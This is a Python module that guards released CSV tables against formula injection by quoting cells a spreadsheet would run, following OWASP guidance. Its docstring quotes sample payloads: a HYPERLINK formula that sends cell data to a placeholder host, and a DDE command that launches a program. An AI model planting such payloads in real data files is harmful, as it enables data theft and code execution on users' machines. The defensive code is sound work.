"""Text a spreadsheet would run as a formula (CSV or formula injection). Pure.

A CSV carries no types: the spreadsheet program that opens a released table reads every cell anew, and a cell
whose text starts with ``=``, ``+``, ``-`` or ``@`` is taken for a formula and run.
``=HYPERLINK("http://x/?"&A2,"click")`` sends the sheet's cells to a web server when clicked,
``+cmd|' /C calc'!A0`` asks the machine to start a program (DDE), ``@SUM(...)`` computes. Some importers skip
a tab or a line break before the formula, or leading spaces.

The rule, as OWASP's guidance on CSV injection gives it: a text cell or column name is *quoted* (a single
quote ``'`` put in front, which spreadsheets read as "this is text") when its first character is one of
:data:`FORMULA_START` (a carriage return is one; the airlock has made every line break a line feed by then, so
a line feed is one too), or when its first character after leading spaces is. Text that is a plain decimal
number (``-2``, ``+3.5``, ``-1e-3``) is left as it is: a spreadsheet reads it as that number and runs
nothing. Numbers in numeric columns are never text, and never quoted.

A program that reads the CSV as data sees the quote (pandas reads ``'=1+1``); :func:`restored` takes it off
again, which the airlock's checks do: they judge the cells as the researcher wrote them. A cell that itself
began with a quote and then a formula character reads the same as a quoted one, and is restored the same way.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

FORMULA_START = frozenset("=+-@\t\r\n")
"""First characters that make a spreadsheet read a cell as a formula (or skip to one that does)."""
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
_SUSPECT = FORMULA_START | {" "}


def runs_as_formula(text: str) -> bool:
    """Would a spreadsheet opening a CSV take ``text`` for a formula (and so must it be quoted)?"""
    head = text.lstrip(" ")
    return bool(head) and head[0] in FORMULA_START and _NUMBER.fullmatch(text) is None


def quoted(text: str) -> str:
    """``text`` with a quote in front if a spreadsheet would run it, else as it is."""
    return QUOTE + text if runs_as_formula(text) else text


def restored(text: str) -> str:
    """``text`` without the quote :func:`quoted` put in front."""
    return text[1:] if text.startswith(QUOTE) and runs_as_formula(text[1:]) else text


def _positions(values: list[Any], first: frozenset[str], test: Any) -> list[int]:
    """Where a value is text whose first character is in ``first`` and ``test`` holds for it."""
    return [i for i, v in enumerate(values) if isinstance(v, str) and v[:1] in first and test(v)]


def quote_frame(frame: pd.DataFrame) -> tuple[pd.DataFrame, int]:
    """``frame`` with every text cell and column name a spreadsheet would run quoted, and how many were.
    Only columns of Python objects hold text; the frame is copied only where something changes."""
    return _apply(frame, _SUSPECT, runs_as_formula, quoted)


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with the quotes of :func:`quote_frame` taken off again (cells and column names)."""
    return _apply(frame, frozenset(QUOTE), lambda v: runs_as_formula(v[1:]), restored)[0]


def _apply(frame: pd.DataFrame, first: frozenset[str], test: Any, change: Any) -> tuple[pd.DataFrame, int]:
    count = 0
    names = list(frame.columns)
    renamed = _positions(names, first, test)
    changed: dict[int, pd.Series] = {}
    for j in range(frame.shape[1]):
        s = frame.iloc[:, j]
        if s.dtype != object:
            continue
        values = s.tolist()
        hits = _positions(values, first, test)
        if hits:
            s = s.copy()
            s.iloc[hits] = [change(values[i]) for i in hits]
            changed[j] = s
            count += len(hits)
    if not renamed and not changed:
        return frame, 0
    out = frame.copy()
    for j, s in changed.items():
        out.isetitem(j, s)
    if renamed:
        at = set(renamed)
        out.columns = pd.Index([change(n) if j in at else n for j, n in enumerate(names)], dtype=object)
    return out, count + len(renamed)
